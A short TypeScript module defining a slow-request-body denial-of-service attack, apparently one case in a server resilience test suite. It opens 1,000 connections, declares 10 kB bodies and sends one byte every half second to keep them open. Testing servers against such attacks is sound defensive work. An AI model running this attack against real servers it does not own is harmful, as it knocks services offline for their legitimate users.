import type { Attack } from "../attack.ts";
import { declaring } from "../requests.ts";

export const drippingBodiesKeepNobodyOut: Attack = {
  what: "sends a byte each half a second of 1,000 bodies of 10 kB",
  caps: { connections: 20_000, bytes: 20e6 },
  run: (attacker) =>
    attacker.sideBySide(1_000, async (connection) => {
      const request = declaring({ host: attacker.host, bytes: 10_000 });
      if (!await connection.write(request)) return;
      while (await connection.write("x")) await attacker.pause(500);
    }),
};
